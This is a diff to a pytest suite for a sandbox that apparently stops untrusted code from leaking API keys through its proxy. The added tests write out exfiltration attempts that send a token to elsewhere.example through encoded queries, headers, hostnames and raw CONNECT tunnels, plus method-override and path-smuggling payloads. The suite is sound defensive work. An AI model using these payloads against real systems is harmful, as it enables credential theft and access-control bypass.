@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import ast
 import base64
 import json
+import logging
 import socket
 import threading
 from collections.abc import Callable, Iterator
@@ -16,11 +18,12 @@ from autoclave.core import InputError, IsolationError
 from autoclave.runtime import permissions
 from autoclave.runtime.interface import Guarantee, NotPermitted
 from autoclave.runtime.opening import open_session
+from autoclave.runtime.packages import AllowedPackages
 from autoclave.runtime.policy import Decision, Grant
 from autoclave.runtime.session import Session
-from autoclave.runtime.vault import Passphrase, Secret, Vault
+from autoclave.runtime.vault import KeyFile, Passphrase, Secret, Vault
 from autoclave.runtime.vault.cells import CellSecrets
-from autoclave.runtime.vault.dummies import forms
+from autoclave.runtime.vault.traces import found_in
 from autoclave.sandbox import SealedCommand, run_command
 from tests.runtime.trees import done, granted
 from tests.runtime.web_service import WebService
@@ -43,6 +46,27 @@ def call(url, method="GET", body=None, **headers):
     except OSError as error:
         return 0, repr(error), {}
 token = os.environ["API_TOKEN"]
+"""
+_RAW = """
+import socket, ssl
+def to_proxy(text):
+    name, port = os.environ["https_proxy"].split("//")[1].split(":")
+    link = socket.create_connection((name, int(port)), timeout=20)
+    link.sendall(text.replace("TOKEN", token).encode("latin-1"))
+    return link
+def in_tunnel(text, name="localhost"):
+    link = to_proxy("CONNECT PLACE HTTP/1.1\\r\\nHost: PLACE\\r\\n\\r\\n")
+    link.recv(1000)
+    tunnel = ssl.create_default_context().wrap_socket(link, server_hostname=name)
+    tunnel.sendall(text.replace("TOKEN", token).encode("latin-1"))
+    return all_of(tunnel)
+def all_of(link):
+    seen = b""
+    while piece := link.recv(1000):
+        seen += piece
+    return seen.decode("latin-1")
+def request(line, *headers, end="Connection: close"):
+    return "\\r\\n".join([line + " HTTP/1.1", "Host: PLACE", *headers, end, "", ""])
 """
 
 
@@ -106,7 +130,8 @@ print(json.dumps([status, text, headers["X-Echo"], token]))
     assert status == 200
     assert dummy != VALUE
     assert len(dummy) == len(VALUE)
-    assert dummy.startswith("sk-real-")
+    assert dummy.startswith("sk-")
+    assert "real" not in dummy
     assert echoed == dummy
     plain, in_json, encoded, path, body = text.split("\n")
     assert (plain, json.loads(in_json), path, body) == (dummy, {"key": dummy}, "/echo/a?b=c", "body")
@@ -149,8 +174,7 @@ os.abort()
     assert len(service.asked) == 12
     haystack = [out.encode(), *seen]
     haystack += [path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()]
-    for form in forms(VALUE):
-        assert not any(form in content for content in haystack)
+    assert not any(found_in(content, {"the key": VALUE}) for content in haystack)
     assert VALUE not in json.dumps([record.body for record in session_records(tmp_path)])
 
 
@@ -165,8 +189,6 @@ def session_records(tmp_path: Path) -> list[Any]:
         ("another host", "https://elsewhere.example/echo", {}),
         ("another port", "https://localhost:1/echo", {}),
         ("an address", "https://127.0.0.1:{port}/echo", {}),
-        ("plain http", "http://localhost:{port}/echo", {}),
-        ("metadata of a cloud", "http://169.254.169.254/latest", {}),
         ("a dot at the end", "https://localhost.:{port}/echo", {}),
         ("another method", "https://localhost:{port}/echo", {"method": "DELETE"}),
         ("another path", "https://localhost:{port}/other", {}),
@@ -198,14 +220,87 @@ def test_what_is_not_for_it_does_not_leave(
         "import base64; call(URL, 'POST', b'{' + base64.b64encode(b'xy' + token.encode()))",
         "call(URL, Cookie=token)",
         "call(URL, Authorization='Bearer ' + token + token)",
+        "call(URL + '?key=' + ''.join(f'%{ord(letter):02x}' for letter in token))",
+        "call(URL, 'POST', ''.join(f'\\\\u{ord(letter):04X}' for letter in token).encode())",
+        "call(URL, 'POST', token.encode('utf-16-le'))",
+        "call(URL.replace('/echo', '/not/allowed?key=') + token)",
+        "call(URL, 'DELETE', token.encode())",
+        "call(URL, Host=token + '.example')",
+        "call('http://elsewhere.example/?key=' + token)",
+        "call('http://elsewhere.example/', Authorization='Bearer ' + token)",
+        "call('http://elsewhere.example/', 'POST', token.encode())",
+        "all_of(to_proxy('CONNECT ' + token.lower() + '.elsewhere.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))",
+        "all_of(to_proxy('CONNECT PLACE HTTP/1.1\\r\\nHost: x\\r\\nX-Key: TOKEN\\r\\n\\r\\n'))",
+        "all_of(to_proxy('no such TOKEN thing\\r\\n\\r\\n'))",
+        "in_tunnel('no such TOKEN thing\\r\\n\\r\\n')",
+        "in_tunnel('', name=token.lower() + '.elsewhere.example')",
     ],
 )
-def test_a_dummy_that_is_somewhere_else_stops_the_action(session: Session, service: WebService, source: str):
-    with pytest.raises(InputError, match="the dummy of api where it does not belong"):
-        told(session, source.replace("URL", f"'https://{service.place}/echo'"))
+def test_a_dummy_that_is_somewhere_else_stops_the_action(tmp_path: Path, service: WebService, source: str):
+    given = f"{_RAW}try:\n    {source}\nexcept OSError:\n    pass"
+    given = given.replace("URL", f"'https://{service.place}/echo'").replace("PLACE", service.place)
+    with opened(tmp_path, service, methods=("GET", "POST"), paths=("/echo/**",)) as session:
+        with pytest.raises(InputError, match="the dummy of api where it does not belong"):
+            told(session, given)
+        assert service.asked == []
+        assert "alarm" in kinds(session)
+        assert session.journal.standings() == []
+
+
+@pytest.mark.parametrize(
+    ("line", "header"),
+    [
+        ("DELETE /repos/me#/issues", "X: y"),
+        ("DELETE /repos/me?#/issues", "X: y"),
+        ("DELETE /repos/me%23/issues", "X: y"),
+        ("DELETE /repos/me%3f/issues", "X: y"),
+        ("DELETE /repos/me;/issues", "X: y"),
+        ("DELETE /repos/%ff/issues", "X: y"),
+        ("DELETE /repos/%zz/issues", "X: y"),
+        ("DELETE /repos/<me>/issues", "X: y"),
+        ("DELETE /repos/me/issues?{}", "X: y"),
+        ("DELETE https://PLACE/repos/me/issues", "X: y"),
+        ("DELETE /repos/me/issues", "X-HTTP-Method-Override: PATCH"),
+        ("DELETE /repos/me/issues", "x_http_method: PATCH"),
+        ("DELETE /repos/me/issues", "X-Method-Override: PATCH"),
+        ("DELETE /repos/me/issues", "X-Original-URL: /repos/me"),
+        ("DELETE /repos/me/issues", "X-Rewrite-URL: /repos/me"),
+        ("DELETE /repos/me/issues?%5Fmethod=PATCH", "X: y"),
+    ],
+)
+def test_what_a_service_could_read_in_another_way_does_not_leave(
+    tmp_path: Path, service: WebService, line: str, header: str, capfd: pytest.CaptureFixture[str]
+):
+    with opened(tmp_path, service, methods=("DELETE",), paths=("/repos/*/issues",)) as session:
+        source = f"{_RAW}print(in_tunnel(request({line!r}, {header!r}, 'Authorization: Bearer TOKEN')))"
+        answer = told(session, source.replace("PLACE", service.place))
+        assert answer.startswith("HTTP/1.1 403"), answer
+        assert "denied" in kinds(session)
     assert service.asked == []
-    assert "alarm" in kinds(session)
-    assert session.journal.standings() == []
+    assert capfd.readouterr().err == ""
+
+
+@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
+def test_no_form_has_another_method_than_its_request(session: Session, service: WebService, kind: str):
+    body = '--x\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--x--' if "multi" in kind else ""
+    source = f"call(URL, 'POST', {body or 'a=b&_Method=DELETE'!r}.encode(), **{{'Content-Type': {kind!r}}})[0]"
+    assert told(session, f"print({source})".replace("URL", f"'https://{service.place}/echo'")) == "403\n"
+    assert service.asked == []
+
+
+@pytest.mark.parametrize(
+    ("pattern", "target"),
+    [
+        ("/users/@me", "/users/@me"),
+        ("/v1/models/*:generateContent", "/v1/models/x:generateContent?alt=sse"),
+        ("/a b/é/*", "/a%20b/%C3%A9/c+d?e[f]=%67&h"),
+    ],
+)
+def test_what_was_judged_is_sent_byte_by_byte(tmp_path: Path, service: WebService, pattern: str, target: str):
+    with opened(tmp_path, service, paths=(pattern,)) as session:
+        source = f"{_RAW}print(in_tunnel(request('GET {target}', 'Authorization: Bearer TOKEN')))"
+        told(session, source.replace("PLACE", service.place))
+    assert [(asked.path, asked.headers["authorization"]) for asked in service.asked] == [(target, f"Bearer {VALUE}")]
 
 
 def test_no_key_without_a_grant_for_the_service(tmp_path: Path, service: WebService):
@@ -327,6 +422,56 @@ except __import__("http").client.IncompleteRead as error:
     assert told(session, source) == "True\n"
 
 
+@pytest.mark.parametrize(
+    ("coding", "status"), [("gzip", 200), ("X-Gzip", 200), ("br", 502), ("gzip, br", 502), ("", 502)]
+)
+def test_a_key_that_comes_back_compressed_is_seen_or_refused(
+    session: Session, service: WebService, coding: str, status: int
+):
+    source = f"""
+status, text, headers = call("https://{service.place}/gzip/{coding.replace(" ", "")}", Authorization=token)
+print(json.dumps([status, text.replace(token, "DUMMY"), headers]))
+"""
+    seen, text, headers = json.loads(told(session, source))
+    assert seen == status
+    assert "Content-Encoding" not in headers
+    assert service.asked[0].headers["accept-encoding"] == "identity"
+    if status == 200:
+        assert text == "the key is DUMMY"
+    else:
+        assert "a key" in text
+        assert any("could not be seen" in str(record.body.get("error")) for record in session.journal.records())
+
+
+def test_no_key_comes_back_in_parts(session: Session, service: WebService):
+    told(session, f"call('https://{service.place}/echo', Range='bytes=0-9', Authorization='Bearer ' + token)")
+    assert "range" not in service.asked[0].headers
+
+
+def test_no_key_is_logged_whatever_the_program_logs(tmp_path: Path, service: WebService):
+    seen: list[str] = []
+
+    class Collect(logging.Handler):
+        def emit(self, record: logging.LogRecord) -> None:
+            seen.append(f"{record.getMessage()} {record.__dict__}")
+
+    root, collect = logging.getLogger(), Collect(logging.NOTSET)
+    level = root.level
+    root.addHandler(collect)
+    root.setLevel(logging.DEBUG)
+    try:
+        with opened(tmp_path, service, place="query", name="key") as session:
+            told(session, f"print(call('https://{service.place}/echo?key=' + token))")
+            told(session, f"print(call('https://{service.place}/away?key=' + token))")
+        logging.getLogger("a.test").debug("is heard")
+    finally:
+        root.removeHandler(collect)
+        root.setLevel(level)
+    assert [asked.path for asked in service.asked] == [f"/echo?key={VALUE}", f"/away?key={VALUE}"]
+    assert any("is heard" in line for line in seen)
+    assert not any(found_in(line.encode(), {"the key": VALUE}) for line in seen)
+
+
 def test_keys_go_into_queries_passwords_and_files_as_well(tmp_path: Path, service: WebService):
     (tmp_path / "q").mkdir()
     with opened(tmp_path / "q", service, place="query", name="key") as session:
@@ -348,3 +493,36 @@ def test_keys_go_into_queries_passwords_and_files_as_well(tmp_path: Path, servic
 def test_a_host_of_the_cell_cannot_be_taken_for_the_machine(session: Session):
     """The name of this machine leads to the cell's own network, where nobody but the proxy listens."""
     assert told(session, f"print(call('https://{socket.gethostname()}:22/')[0])") in ("0\n", "403\n")
+
+
+@pytest.mark.parametrize("inside", ["vault", "vault.key", "list.txt", "trust.pem", "link"])
+def test_what_guards_the_keys_cannot_be_in_the_folder(tmp_path: Path, inside: str):
+    root, beside = tmp_path / "tree", tmp_path / "beside"
+    root.mkdir()
+    beside.mkdir()
+    places = {
+        name: (root if name == inside else beside) / name for name in ("vault", "vault.key", "list.txt", "trust.pem")
+    }
+    if inside == "link":
+        (root / "list").symlink_to(beside / "list.txt")
+        places["list.txt"] = root / "list"
+    (beside / "list.txt").write_text("")
+    places["list.txt"].write_text("")
+    kept = Vault(places["vault"], KeyFile(places["vault.key"]))
+    kept.add(Secret.model_validate({"service": "api", "value": VALUE, "hosts": ["api.example.com"]}))
+    others: dict[str, Any] = {
+        "packages": AllowedPackages(places["list.txt"], tmp_path / "cache"),
+        "vault": lambda record, may_use: CellSecrets(kept, record, may_use),
+        "kept_outside": [places["trust.pem"]],
+    }
+    with pytest.raises(InputError, match=f"must be outside of {root}, or commands could read and change it"):
+        open_session(root, tmp_path / "state", **others)
+    (tmp_path / "other").mkdir()
+    open_session(tmp_path / "other", tmp_path / "state", **others).close()
+
+
+def test_code_sees_certificates_and_no_private_keys(session: Session):
+    source = "print(sorted(os.listdir('/etc/ssl')), len(os.listdir('/etc/ssl/certs')) > 0)"
+    names, has_some = told(session, source).rsplit(maxsplit=1)
+    assert has_some == "True"
+    assert set(ast.literal_eval(names)) <= {"certs", "cert.pem", "openssl.cnf"}
